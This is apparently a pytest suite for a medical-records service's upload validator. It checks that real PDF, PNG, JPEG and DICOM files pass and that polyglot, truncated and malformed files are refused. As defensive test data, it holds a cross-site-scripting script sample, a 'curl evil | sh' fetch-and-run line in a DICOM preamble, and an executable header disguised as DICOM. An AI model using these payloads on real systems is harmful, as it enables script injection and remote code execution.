"""An upload is accepted only when its whole content has the structure of a PDF, PNG, JPEG or
DICOM file: disguised files (polyglots) and cut-off files are refused, naming the problem."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from plexcare.second_opinions.uploads import (
    UploadKind,
    UploadRefused,
    UploadUnsupported,
    store_upload,
)
from tests.second_opinions.samples import (
    DICOM,
    EXE_WITH_DICM,
    JPEG,
    PDF,
    PDF_HEADER_HTML_BODY,
    PNG,
    PNG_HEADER_SCRIPT,
    dicom_bytes,
    dicom_dataset,
    jpeg_bytes,
    pdf_bytes,
    png_bytes,
)

SCRIPT = b"<script>fetch('/api/v1/me').then(r => r.text()).then(alert)</script>"


@pytest.fixture
def upload_dir(tmp_path: Path) -> Path:
    return tmp_path / "uploads"


def refusal(upload_dir: Path, content: bytes, name: str = "report") -> UploadRefused:
    """Store `content`, expecting a refusal that leaves nothing on disk; return the refusal."""
    with pytest.raises(UploadRefused) as refused:
        store_upload(io.BytesIO(content), original_name=name, directory=upload_dir)
    assert refused.value.field == "file"
    assert list(upload_dir.iterdir()) == []
    return refused.value


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, UploadKind.PDF),
        (PNG, UploadKind.PNG),
        (png_bytes(width=5, height=5, filters=bytes([0, 1, 2, 3, 4])), UploadKind.PNG),
        (png_bytes(width=9, height=9, interlace=1, pixel_rows=bytes(100)), UploadKind.PNG),
        (JPEG, UploadKind.JPEG),
        (jpeg_bytes(after_eoi=JPEG), UploadKind.JPEG),
        (DICOM, UploadKind.DICOM),
        (dicom_bytes(preamble=b"II*\x00" + bytes(124)), UploadKind.DICOM),
    ],
    ids=[
        "pdf",
        "png",
        "png-filters",
        "png-interlaced",
        "jpeg",
        "jpeg-two-pictures",
        "dicom",
        "dicom-tiff",
    ],
)
def test_real_files_of_each_type_are_accepted(
    upload_dir: Path, content: bytes, kind: UploadKind
) -> None:
    stored = store_upload(io.BytesIO(content), original_name="scan", directory=upload_dir)

    assert stored.kind is kind
    assert (upload_dir / stored.stored_name).read_bytes() == content


def test_a_windows_program_with_the_dicom_marker_at_byte_128_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, EXE_WITH_DICM, "viewer.dcm")

    assert isinstance(refused, UploadUnsupported)
    assert "Windows program" in refused.detail


def test_a_real_dicom_file_whose_preamble_holds_a_program_header_is_refused(
    upload_dir: Path,
) -> None:
    refused = refusal(upload_dir, dicom_bytes(preamble=b"MZ\x90\x00" + bytes(124)))

    assert "Windows program" in refused.detail


@pytest.mark.parametrize(
    "preamble",
    [b"<html><body>", b"#!/bin/sh\ncurl evil | sh\n", bytes(16) + b"<script>alert(1)</script>"],
    ids=["page", "script", "markup-inside"],
)
def test_a_dicom_file_whose_preamble_holds_a_page_or_script_is_refused(
    upload_dir: Path, preamble: bytes
) -> None:
    refused = refusal(upload_dir, dicom_bytes(preamble=preamble.ljust(128, b"\x00")))

    assert isinstance(refused, UploadUnsupported)


def test_a_dicom_file_with_stray_bytes_in_its_preamble_is_accepted(upload_dir: Path) -> None:
    content = dicom_bytes(preamble=bytes(16) + b"\x00\x01" + bytes(110))

    stored = store_upload(io.BytesIO(content), original_name="ct.dcm", directory=upload_dir)

    assert stored.kind is UploadKind.DICOM


@pytest.mark.filterwarnings("ignore:Expected explicit VR:UserWarning")
def test_the_dicom_marker_alone_is_not_a_dicom_file(upload_dir: Path) -> None:
    refused = refusal(upload_dir, bytes(128) + b"DICM" + b"\x02\x00" + bytes(300))

    assert "starts like a DICOM file but" in refused.detail


@pytest.mark.parametrize("cut", [1, 5, 16, 40])
def test_a_dicom_file_cut_short_is_refused(upload_dir: Path, cut: int) -> None:
    refused = refusal(upload_dir, DICOM[:-cut])

    assert "incomplete" in refused.detail or "no pixel data" in refused.detail


def test_a_dicom_image_cut_just_before_its_pixel_data_is_refused(upload_dir: Path) -> None:
    cut = DICOM.rfind(b"\xe0\x7f\x10\x00")  # the Pixel Data element's tag

    refused = refusal(upload_dir, DICOM[:cut])

    assert "no pixel data" in refused.detail


def test_a_dicom_file_with_a_web_page_appended_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, DICOM + b"<html><body>" + SCRIPT + b"</body></html>")

    assert "not DICOM" in refused.detail


def test_a_dicom_file_without_its_file_meta_information_is_refused(upload_dir: Path) -> None:
    dataset = dicom_dataset()
    del dataset.file_meta.MediaStorageSOPInstanceUID
    dataset.preamble = bytes(128)
    written = io.BytesIO()
    dataset.save_as(written, enforce_file_format=False)

    refused = refusal(upload_dir, written.getvalue())

    assert "MediaStorageSOPInstanceUID" in refused.detail


def test_a_pdf_header_on_a_web_page_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, PDF_HEADER_HTML_BODY, "report.html")

    assert "starts like a PDF but" in refused.detail


def test_a_real_pdf_carrying_a_web_page_outside_its_streams_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, pdf_bytes(between=b"<html><body>" + SCRIPT + b"\n"))

    assert "web-page markup (<html)" in refused.detail


def test_a_pdf_may_carry_markup_like_bytes_inside_a_content_stream(upload_dir: Path) -> None:
    content = pdf_bytes(
        between=b"9 0 obj\n<< /Length 30 >>\nstream\n<script>x</script>\nendstream\nendobj\n"
    )

    stored = store_upload(io.BytesIO(content), original_name="a.pdf", directory=upload_dir)

    assert stored.kind is UploadKind.PDF


def test_a_pdf_with_anything_after_its_end_marker_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, pdf_bytes(after_eof=b"PK\x03\x04" + bytes(40)))

    assert "after its %%EOF" in refused.detail


def test_a_pdf_whose_startxref_points_nowhere_is_refused(upload_dir: Path) -> None:
    broken = PDF.replace(b"startxref\n", b"startxref\n1").replace(b"%%EOF", b"%%EOF")

    refused = refusal(upload_dir, broken)

    assert "cross-reference" in refused.detail


def test_a_png_signature_followed_by_a_script_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, PNG_HEADER_SCRIPT, "photo.png")

    assert "starts like a PNG but" in refused.detail


def test_a_real_png_with_a_script_in_a_text_chunk_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, png_bytes(text=SCRIPT))

    assert "web-page markup (<script) in its tEXt chunk" in refused.detail


def test_a_real_png_with_a_web_page_after_its_end_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, PNG + b"<html>" + SCRIPT)

    assert "after its IEND" in refused.detail


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (png_bytes(width=3, height=3, filters=bytes([0, 5, 0])), "scanline filter"),
        (png_bytes(width=3, height=3, pixel_rows=bytes(8)), "less image data"),
        (png_bytes(width=3, height=3, pixel_rows=bytes(20)), "more image data"),
        (png_bytes(width=10_000, height=10_000, pixel_rows=b"\x00"), "64 megapixels"),
        (PNG[:-12], "no IEND"),
    ],
    ids=["bad-filter", "short", "long", "pixel-bomb", "truncated"],
)
def test_a_png_whose_pixels_do_not_decode_as_its_header_says_is_refused(
    upload_dir: Path, content: bytes, problem: str
) -> None:
    assert problem in refusal(upload_dir, content).detail


def test_a_jpeg_with_a_script_in_a_comment_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, jpeg_bytes(comment=SCRIPT))

    assert "web-page markup (<script) in its metadata" in refused.detail


def test_a_jpeg_with_an_archive_after_its_end_is_refused(upload_dir: Path) -> None:
    refused = refusal(upload_dir, jpeg_bytes(after_eoi=b"PK\x03\x04" + bytes(40)))

    assert "after its end-of-image marker" in refused.detail


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (JPEG[:-2], "no end-of-image"),
        (JPEG.replace(b"\xff\xc0", b"\xff\xfe"), "without a valid frame header"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + bytes(64) + b"\xff\xd9", "damaged"),
    ],
    ids=["truncated", "no-frame", "signature-only"],
)
def test_a_jpeg_whose_markers_do_not_walk_is_refused(
    upload_dir: Path, content: bytes, problem: str
) -> None:
    assert problem in refusal(upload_dir, content).detail
